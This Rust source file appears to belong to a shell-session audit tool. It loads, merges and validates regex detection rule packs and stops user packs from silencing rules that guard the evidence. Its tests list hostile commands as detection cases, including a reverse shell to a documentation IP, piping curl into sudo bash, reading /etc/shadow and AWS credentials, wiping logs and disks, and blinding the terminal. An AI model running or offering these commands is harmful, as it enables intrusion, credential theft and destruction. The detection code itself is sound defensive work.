//! Rule packs: the built-in pack (`shared/rules/builtin.toml`, compiled in) plus an optional
//! user pack that adds, overrides or disables rules by ID.

use crate::finding::{Finding, FrameworkRef, Severity};
use regex::{Regex, RegexSet};
use serde::{Deserialize, Serialize};
use toml::Spanned;

/// The built-in pack's source text.
pub const BUILTIN_PACK: &str = include_str!("../rules/builtin.toml");
const BUILTIN_NAME: &str = "<built-in rules>";

/// What a rule looks at.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Target {
    /// The command line (redacted).
    Command,
    /// A line of a command's output.
    Output,
    /// A fact about the session (MFA, hours, tags, the transcript's completeness).
    Session,
}

/// Session conditions the engine knows how to evaluate.
pub const SESSION_CONDITIONS: &[&str] = &[
    "transcript_truncated",
    "transcript_unparseable",
    "denied_attempt",
    "no_mfa",
    "off_hours",
    "target_missing_required_tag",
    "unlogged_document",
    "logging_preferences_drift",
    "root_identity",
    "instance_to_instance",
    "principal_not_allowed",
    "session_too_long",
    "run_as_root",
    "transcript_without_start",
    "transcript_missing",
    "hidden_input",
    "forged_prompt",
    "transcript_replaced",
    "channels_disagree",
    "untrusted_upload",
    "stream_stopped",
    "config_instance_noncompliant",
    "config_preferences_noncompliant",
    "guardduty_finding",
    "document_not_allowed",
    "document_parameters_refused",
    "outside_change_window",
    "protected_without_approval",
    "region_not_allowed",
];

/// A rule ready to evaluate.
#[derive(Debug, Clone)]
pub struct Rule {
    /// The rule's stable ID (`SA-CMD-040`).
    pub id: String,
    /// What it means, in a few words.
    pub title: String,
    /// How bad a match is.
    pub severity: Severity,
    /// What it looks at.
    pub target: Target,
    /// What it matches (command and output rules).
    pub pattern: Option<Regex>,
    /// The session condition it stands for (session rules).
    pub condition: Option<String>,
    /// The controls it maps to.
    pub frameworks: Vec<FrameworkRef>,
}

/// A loaded, merged, compiled pack.
#[derive(Debug, Clone)]
pub struct RulePack {
    rules: Vec<Rule>,
    command_set: RegexSet,
    command_rules: Vec<usize>,
    output_set: RegexSet,
    output_rules: Vec<usize>,
    /// Every output rule in one regex for many lines joined by `\n` (see [`Self::output_scan`]).
    output_scan: Option<Regex>,
}

/// A pack that cannot be used, with where and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{file}:{line}: {reason}")]
pub struct PackError {
    /// The pack's file name.
    pub file: String,
    /// The line of the problem.
    pub line: usize,
    /// What is wrong.
    pub reason: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct PackFile {
    #[allow(dead_code)]
    version: Option<u32>,
    #[serde(default)]
    disable: Vec<Spanned<String>>,
    #[serde(default)]
    rule: Vec<Spanned<RuleEntry>>,
}

#[derive(Deserialize, Clone)]
#[serde(deny_unknown_fields)]
struct RuleEntry {
    id: Spanned<String>,
    title: Option<String>,
    severity: Option<Spanned<String>>,
    on: Option<Spanned<String>>,
    pattern: Option<Spanned<String>>,
    condition: Option<Spanned<String>>,
    frameworks: Option<Frameworks>,
    enabled: Option<bool>,
    #[allow(dead_code)]
    description: Option<String>,
}

#[derive(Deserialize, Clone, Default)]
#[serde(deny_unknown_fields)]
struct Frameworks {
    #[serde(default)]
    pci_dss: Vec<String>,
    #[serde(default)]
    cis_aws: Vec<String>,
    #[serde(default)]
    soc2: Vec<String>,
    #[serde(default)]
    nist_800_53: Vec<String>,
    #[serde(default)]
    mitre_attack: Vec<String>,
}

impl Frameworks {
    fn refs(&self) -> Vec<FrameworkRef> {
        let named = [
            ("PCI DSS 4.0", &self.pci_dss),
            ("CIS AWS Foundations 3.0", &self.cis_aws),
            ("SOC 2", &self.soc2),
            ("NIST SP 800-53 Rev. 5", &self.nist_800_53),
            ("MITRE ATT&CK", &self.mitre_attack),
        ];
        named
            .into_iter()
            .flat_map(|(f, ids)| {
                ids.iter()
                    .map(move |c| FrameworkRef { framework: f.to_string(), control: c.clone() })
            })
            .collect()
    }
}

/// A rule entry as merged across packs, before compiling. Remembers where each field came from.
#[derive(Clone)]
struct Draft {
    entry: RuleEntry,
    file: String,
    text: String,
    at: usize,
}

impl RulePack {
    /// The built-in pack alone.
    pub fn builtin() -> Self {
        Self::load(None).expect("the built-in rule pack is valid (checked by tests)")
    }

    /// The built-in pack merged with a user pack `(file name, TOML text)`.
    pub fn load(user: Option<(&str, &str)>) -> Result<Self, PackError> {
        let mut drafts: Vec<Draft> = Vec::new();
        let mut disabled: Vec<String> = Vec::new();
        let mut packs = vec![(BUILTIN_NAME, BUILTIN_PACK)];
        packs.extend(user);
        for (file, text) in packs {
            let parsed: PackFile = toml::from_str(text).map_err(|e| PackError {
                file: file.to_string(),
                line: line_of(text, e.span().map_or(0, |s| s.start)),
                reason: e.message().to_string(),
            })?;
            if file != BUILTIN_NAME {
                guard(&drafts, &parsed, file, text)?;
            }
            disabled.extend(parsed.disable.iter().map(|d| d.get_ref().clone()));
            for spanned in parsed.rule {
                let at = spanned.span().start;
                let entry = spanned.into_inner();
                match drafts.iter_mut().find(|d| d.entry.id.get_ref() == entry.id.get_ref()) {
                    Some(d) => d.merge(entry, file, text),
                    None => drafts.push(Draft { entry, file: file.into(), text: text.into(), at }),
                }
            }
        }
        let mut rules = Vec::new();
        for d in drafts {
            let id = d.entry.id.get_ref().clone();
            if d.entry.enabled == Some(false) || disabled.contains(&id) {
                continue;
            }
            rules.push(d.compile()?);
        }
        Self::from_rules(rules)
    }

    fn from_rules(rules: Vec<Rule>) -> Result<Self, PackError> {
        let pick = |t: Target| -> Vec<usize> {
            rules.iter().enumerate().filter(|(_, r)| r.target == t).map(|(i, _)| i).collect()
        };
        let (command_rules, output_rules) = (pick(Target::Command), pick(Target::Output));
        let set = |idx: &[usize]| {
            RegexSet::new(idx.iter().map(|i| rules[*i].pattern.as_ref().map_or("", |p| p.as_str())))
                .map_err(|e| PackError {
                    file: BUILTIN_NAME.into(),
                    line: 0,
                    reason: e.to_string(),
                })
        };
        Ok(RulePack {
            output_scan: output_scan(&rules, &output_rules),
            command_set: set(&command_rules)?,
            output_set: set(&output_rules)?,
            command_rules,
            output_rules,
            rules,
        })
    }

    /// The rules in effect (built-in, then the user pack's).
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// The rule with ID `id`, if it is in effect.
    pub fn get(&self, id: &str) -> Option<&Rule> {
        self.rules.iter().find(|r| r.id == id)
    }

    /// Rules whose pattern matches a command, in pack order.
    pub fn match_command<'a>(&'a self, command: &str) -> impl Iterator<Item = &'a Rule> + 'a {
        // Nearly every command matches no rule: one plain yes/no pass decides that, and only
        // a hit pays for the overlapping search that says which rules.
        self.command_rule_indexes(command).map(move |i| &self.rules[i])
    }

    /// Where in [`Self::rules`] the rules whose pattern matches a command are, in pack order.
    pub fn command_rule_indexes(&self, command: &str) -> impl Iterator<Item = usize> + '_ {
        let hits = self.command_set.is_match(command).then(|| self.command_set.matches(command));
        hits.into_iter().flatten().map(move |i| self.command_rules[i])
    }

    /// One regex that, over output lines joined by `\n`, matches at or before every place an
    /// output rule matches one of the lines on its own: `^` and `$` stand at line ends there,
    /// `\b` sees the `\n` as a line end's non-word. A match may also start where no line
    /// matches (one spanning two lines): it only says which line to judge with
    /// [`Self::match_output`]. `None` when there are no output rules, or when one depends on
    /// the text's own ends (`\A`, `\z`) or turns a flag off (it could turn multi-line off).
    pub fn output_scan(&self) -> Option<&Regex> {
        self.output_scan.as_ref()
    }

    /// Rules whose pattern matches an output line.
    pub fn match_output<'a>(&'a self, line: &str) -> impl Iterator<Item = &'a Rule> + 'a {
        // Most lines match nothing: a plain yes/no search first is much cheaper.
        let hits = (!self.output_rules.is_empty() && self.output_set.is_match(line))
            .then(|| self.output_set.matches(line));
        hits.into_iter().flatten().map(move |i| &self.rules[self.output_rules[i]])
    }

    /// The enabled session rule for a condition, if any.
    pub fn session_rule(&self, condition: &str) -> Option<&Rule> {
        self.rules.iter().find(|r| r.condition.as_deref() == Some(condition))
    }

    /// The finding of the session rule for `condition`, unless the pack disabled it.
    pub fn session_finding(&self, condition: &str, evidence: String) -> Option<Finding> {
        self.session_rule(condition).map(|rule| rule.finding(evidence, None))
    }
}

fn output_scan(rules: &[Rule], output_rules: &[usize]) -> Option<Regex> {
    let sources: Vec<&str> =
        output_rules.iter().filter_map(|&i| rules[i].pattern.as_ref()).map(Regex::as_str).collect();
    let unsafe_in_lines = Regex::new(r"\\[Az]|\(\?[a-zA-Z]*-").expect("pattern check");
    if sources.is_empty() || sources.iter().any(|s| unsafe_in_lines.is_match(s)) {
        return None;
    }
    let joined: Vec<String> = sources.iter().map(|s| format!("(?m:{s})")).collect();
    Regex::new(&joined.join("|")).ok()
}

impl Rule {
    /// A finding of this rule.
    pub fn finding(&self, evidence: String, command_seq: Option<u64>) -> Finding {
        Finding {
            rule_id: self.id.clone(),
            severity: self.severity,
            title: self.title.clone(),
            evidence,
            command_seq,
            frameworks: self.frameworks.clone(),
            occurrences: 1,
        }
    }
}

/// Conditions of the completeness rules: with the `SA-TRN-*` rules they say when the audit's
/// own evidence is missing, cut or not to be trusted.
const COMPLETENESS: &[&str] = &[
    "transcript_missing",
    "transcript_truncated",
    "transcript_unparseable",
    "transcript_without_start",
];

/// Whether a built-in rule guards the audit's evidence: a user pack may tune it (severity,
/// title, frameworks), never switch it off or change what it looks at, so a pack placed by
/// someone who wants to hide cannot silence the findings that would show it.
fn guards_evidence(d: &Draft) -> bool {
    let condition = d.entry.condition.as_ref().map(|c| c.get_ref().as_str());
    d.entry.id.get_ref().starts_with("SA-TRN-")
        || condition.is_some_and(|c| COMPLETENESS.contains(&c))
}

/// Refuse a user pack that disables a guarding built-in rule or changes what it looks at.
fn guard(builtin: &[Draft], pack: &PackFile, file: &str, text: &str) -> Result<(), PackError> {
    let guarding =
        |id: &str| builtin.iter().any(|d| d.entry.id.get_ref() == id && guards_evidence(d));
    let refuse = |at: usize, id: &str, what: &str| PackError {
        file: file.to_string(),
        line: line_of(text, at),
        reason: format!(
            "rule {id} guards the audit's own evidence and cannot be {what} (tune its severity, \
             title or frameworks instead)"
        ),
    };
    if let Some(d) = pack.disable.iter().find(|d| guarding(d.get_ref())) {
        return Err(refuse(d.span().start, d.get_ref(), "disabled"));
    }
    for r in &pack.rule {
        let e = r.get_ref();
        let id = e.id.get_ref();
        if !guarding(id) {
            continue;
        }
        if e.enabled == Some(false) {
            return Err(refuse(r.span().start, id, "disabled"));
        }
        if e.on.is_some() || e.pattern.is_some() || e.condition.is_some() {
            return Err(refuse(r.span().start, id, "given another target, pattern or condition"));
        }
    }
    Ok(())
}

impl Draft {
    /// A later pack's entry for the same ID: given fields replace, missing ones are kept.
    fn merge(&mut self, other: RuleEntry, file: &str, text: &str) {
        let e = &mut self.entry;
        e.title = other.title.or(e.title.take());
        e.severity = other.severity.or(e.severity.take());
        e.on = other.on.or(e.on.take());
        e.pattern = other.pattern.or(e.pattern.take());
        e.condition = other.condition.or(e.condition.take());
        e.frameworks = other.frameworks.or(e.frameworks.take());
        e.enabled = other.enabled.or(e.enabled);
        self.file = file.to_string();
        self.text = text.to_string();
        self.at = other.id.span().start;
    }

    fn err(&self, at: usize, reason: String) -> PackError {
        PackError { file: self.file.clone(), line: line_of(&self.text, at), reason }
    }

    fn compile(self) -> Result<Rule, PackError> {
        let e = &self.entry;
        let id = e.id.get_ref().clone();
        if id.trim().is_empty() || id.chars().any(char::is_whitespace) {
            return Err(
                self.err(e.id.span().start, format!("rule id `{id}` must be a non-empty word"))
            );
        }
        let title = e
            .title
            .clone()
            .ok_or_else(|| self.err(self.at, format!("rule {id}: missing `title`")))?;
        let severity = match &e.severity {
            Some(s) => s
                .get_ref()
                .parse()
                .map_err(|r| self.err(s.span().start, format!("rule {id}: {r}")))?,
            None => return Err(self.err(self.at, format!("rule {id}: missing `severity`"))),
        };
        let target = match e.on.as_ref().map(|s| (s.get_ref().as_str(), s.span().start)) {
            Some(("command", _)) | None => Target::Command,
            Some(("output", _)) => Target::Output,
            Some(("session", _)) => Target::Session,
            Some((other, at)) => {
                return Err(self.err(
                    at,
                    format!("rule {id}: `on = \"{other}\"` (expected command, output or session)"),
                ))
            }
        };
        let (pattern, condition) = match target {
            Target::Session => {
                let c = e.condition.as_ref().ok_or_else(|| {
                    self.err(self.at, format!("rule {id}: session rule needs a `condition`"))
                })?;
                if !SESSION_CONDITIONS.contains(&c.get_ref().as_str()) {
                    return Err(self.err(
                        c.span().start,
                        format!(
                            "rule {id}: unknown condition `{}` (known: {})",
                            c.get_ref(),
                            SESSION_CONDITIONS.join(", ")
                        ),
                    ));
                }
                (None, Some(c.get_ref().clone()))
            }
            _ => {
                let p = e
                    .pattern
                    .as_ref()
                    .ok_or_else(|| self.err(self.at, format!("rule {id}: missing `pattern`")))?;
                let re = Regex::new(p.get_ref()).map_err(|err| {
                    let first = err.to_string().lines().last().unwrap_or_default().to_string();
                    self.err(p.span().start, format!("rule {id}: invalid pattern: {first}"))
                })?;
                (Some(re), None)
            }
        };
        let frameworks = e.frameworks.clone().unwrap_or_default().refs();
        Ok(Rule { id, title, severity, target, pattern, condition, frameworks })
    }
}

/// 1-based line number of a byte offset.
fn line_of(text: &str, offset: usize) -> usize {
    text.as_bytes()[..offset.min(text.len())].iter().filter(|b| **b == b'\n').count() + 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_pack_is_valid_and_large_enough() {
        let pack = RulePack::builtin();
        let commands = pack.rules().iter().filter(|r| r.target == Target::Command).count();
        assert!(commands >= 25, "{commands} command rules");
        let mut ids: Vec<&str> = pack.rules().iter().map(|r| r.id.as_str()).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), pack.rules().len(), "ids are unique");
        for r in pack.rules() {
            assert!(
                r.frameworks.iter().any(|f| f.framework.starts_with("NIST")),
                "{} maps to NIST",
                r.id
            );
        }
        assert!(pack.session_rule("transcript_truncated").is_some());
    }

    fn hits(pack: &RulePack, cmd: &str) -> Vec<String> {
        pack.match_command(cmd).map(|r| r.id.clone()).collect()
    }

    #[test]
    fn command_rules_catch_what_they_name_and_spare_routine_work() {
        let pack = RulePack::builtin();
        let cases: &[(&str, &str)] = &[
            ("sudo -s", "SA-CMD-001"),
            ("sudo su -", "SA-CMD-001"),
            ("echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers", "SA-CMD-002"),
            ("chmod u+s /usr/bin/find", "SA-CMD-003"),
            ("sudo cat /etc/shadow", "SA-CMD-010"),
            ("cat ~/.aws/credentials", "SA-CMD-011"),
            (
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
                "SA-CMD-012",
            ),
            ("mysql -u root -pS3cret db", "SA-CMD-015"),
            ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "SA-CMD-020"),
            ("crontab -e", "SA-CMD-021"),
            ("history -c", "SA-CMD-030"),
            ("unset HISTFILE", "SA-CMD-030"),
            ("sudo rm -f /var/log/secure", "SA-CMD-031"),
            ("sudo systemctl stop auditd", "SA-CMD-032"),
            ("sudo systemctl stop amazon-ssm-agent", "SA-CMD-033"),
            ("sudo snap stop amazon-ssm-agent", "SA-CMD-033"),
            ("sudo setenforce 0", "SA-CMD-034"),
            ("iptables -F", "SA-CMD-035"),
            ("curl -fsSL https://get.example.sh | sudo bash", "SA-CMD-040"),
            ("wget http://198.51.100.7/x -O /tmp/x", "SA-CMD-041"),
            ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "SA-CMD-042"),
            ("ssh -R 8080:localhost:80 user@host", "SA-CMD-043"),
            ("sudo rm -rf /", "SA-CMD-050"),
            ("dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "SA-CMD-050"),
            ("sudo useradd -m backdoor", "SA-CMD-060"),
            ("sudo usermod -aG wheel bob", "SA-CMD-061"),
            ("aws iam attach-user-policy --user-name x --policy-arn y", "SA-CMD-063"),
            ("echo ZWNobyBoaQ== | base64 -d | sh", "SA-CMD-037"),
            ("stty -echo", "SA-TRN-BLINDED"),
            ("stty sane -echo", "SA-TRN-BLINDED"),
            ("printf '\\033[?1049h'", "SA-TRN-BLINDED"),
            ("echo -e '\\e[?47h'", "SA-TRN-BLINDED"),
            ("tput smcup", "SA-TRN-BLINDED"),
            ("set +o emacs", "SA-TRN-BLINDED"),
            ("bind 'set enable-bracketed-paste off'", "SA-TRN-BLINDED"),
            ("exec bash --noediting", "SA-TRN-BLINDED"),
            ("PS1='\\[\\033[?1049h\\]sh-5.2$ '", "SA-TRN-BLINDED"),
            ("PROMPT_COMMAND='printf \"\\e[?1049h\"'", "SA-TRN-BLINDED"),
            ("export TERM=dumb", "SA-TRN-BLINDED"),
            ("exec >/dev/null 2>&1", "SA-TRN-BLINDED"),
            ("exec 2>/tmp/errors", "SA-TRN-BLINDED"),
            ("tmux", "SA-TRN-MULTIPLEXER"),
            ("tmux new -s work", "SA-TRN-MULTIPLEXER"),
            ("tmux attach -t 0", "SA-TRN-MULTIPLEXER"),
            ("screen", "SA-TRN-MULTIPLEXER"),
            ("screen -r", "SA-TRN-MULTIPLEXER"),
            ("sudo -i tmux", "SA-TRN-MULTIPLEXER"),
            ("exec /usr/bin/byobu", "SA-TRN-MULTIPLEXER"),
        ];
        for (cmd, id) in cases {
            assert!(
                hits(&pack, cmd).contains(&id.to_string()),
                "{cmd} → {id}, got {:?}",
                hits(&pack, cmd)
            );
        }
        for benign in [
            "ls -la",
            "sudo systemctl status amazon-ssm-agent",
            "cat /etc/hosts",
            "rm -rf ./build",
            "echo hello",
            "grep root /etc/passwd",
            "df -h",
            "sudo yum update -y",
            "tail -f /var/log/messages",
            "mkdir -p /tmp/x",
            "history",
            "stty -echo; read -r pw; stty echo",
            "stty echo",
            "read -s -p 'Password: ' pw",
            "PS1='\\[\\e[32m\\]\\u@\\h\\[\\e[0m\\]$ '",
            "exec 2>&1",
            "exec bash -l",
            "vim /etc/hosts",
            "tmux ls",
            "screen -ls",
            "tmux kill-server",
            "man screen",
            "xrandr --screen 0",
        ] {
            assert!(hits(&pack, benign).is_empty(), "{benign} flagged: {:?}", hits(&pack, benign));
        }
    }

    #[test]
    fn user_pack_overrides_disables_and_adds() {
        let user = r#"
disable = ["SA-CMD-041"]

[[rule]]
id = "SA-CMD-001"
severity = "high"

[[rule]]
id = "ACME-001"
title = "Production database shell"
severity = "critical"
pattern = 'psql\s+.*prod'
frameworks = { soc2 = ["CC6.1"] }
"#;
        let pack = RulePack::load(Some(("acme.toml", user))).unwrap();
        assert_eq!(pack.get("SA-CMD-001").unwrap().severity, Severity::High);
        assert_eq!(pack.get("SA-CMD-001").unwrap().title, "Interactive root shell opened");
        assert!(pack.get("SA-CMD-041").is_none());
        assert_eq!(hits(&pack, "psql -h prod-db"), ["ACME-001"]);
    }

    #[test]
    fn rules_that_guard_the_evidence_are_tuned_never_silenced() {
        for pack in [
            "disable = [\"SA-TRN-CHANNELS-DISAGREE\"]\n",
            "disable = [\"SA-SES-TRANSCRIPT-MISSING\"]\n",
            "[[rule]]\nid = \"SA-TRN-UNTRUSTED-UPLOAD\"\nenabled = false\n",
            "[[rule]]\nid = \"SA-TRN-REPLACED\"\ncondition = \"no_mfa\"\n",
            "[[rule]]\nid = \"SA-SES-TRUNCATED\"\non = \"command\"\npattern = 'x^'\n",
        ] {
            let e = RulePack::load(Some(("mine.toml", pack))).unwrap_err();
            assert!(e.reason.contains("guards the audit's own evidence"), "{pack}: {e}");
        }
        let tuned = "[[rule]]\nid = \"SA-TRN-STREAM-STOPPED\"\nseverity = \"high\"\n";
        let pack = RulePack::load(Some(("mine.toml", tuned))).unwrap();
        assert_eq!(pack.get("SA-TRN-STREAM-STOPPED").unwrap().severity, Severity::High);
        // Other rules stay the user's to switch off.
        assert!(RulePack::load(Some(("mine.toml", "disable = [\"SA-SES-NO-MFA\"]\n"))).is_ok());
    }

    #[test]
    fn malformed_packs_name_file_line_and_reason() {
        let bad_regex =
            "[[rule]]\nid = \"X-1\"\ntitle = \"t\"\nseverity = \"low\"\npattern = 'a(b'\n";
        let e = RulePack::load(Some(("mine.toml", bad_regex))).unwrap_err();
        assert_eq!((e.file.as_str(), e.line), ("mine.toml", 5));
        assert!(e.reason.contains("invalid pattern"), "{e}");

        let bad_sev =
            "[[rule]]\nid = \"X-1\"\ntitle = \"t\"\nseverity = \"urgent\"\npattern = 'a'\n";
        let e = RulePack::load(Some(("mine.toml", bad_sev))).unwrap_err();
        assert_eq!(e.line, 4);
        assert!(e.reason.contains("unknown severity"));

        let syntax = "[[rule]]\nid = \"X-1\"\ntitle = \n";
        let e = RulePack::load(Some(("mine.toml", syntax))).unwrap_err();
        assert_eq!(e.line, 3, "{e}");

        let unknown_field = "[[rule]]\nid = \"X-1\"\ntitel = \"t\"\n";
        let e = RulePack::load(Some(("mine.toml", unknown_field))).unwrap_err();
        assert!(e.reason.contains("titel"), "{e}");

        let missing = "[[rule]]\nid = \"X-1\"\nseverity = \"low\"\npattern = 'a'\n";
        let e = RulePack::load(Some(("mine.toml", missing))).unwrap_err();
        assert!(e.reason.contains("missing `title`"), "{e}");
        assert_eq!(e.line, 1);
    }
}
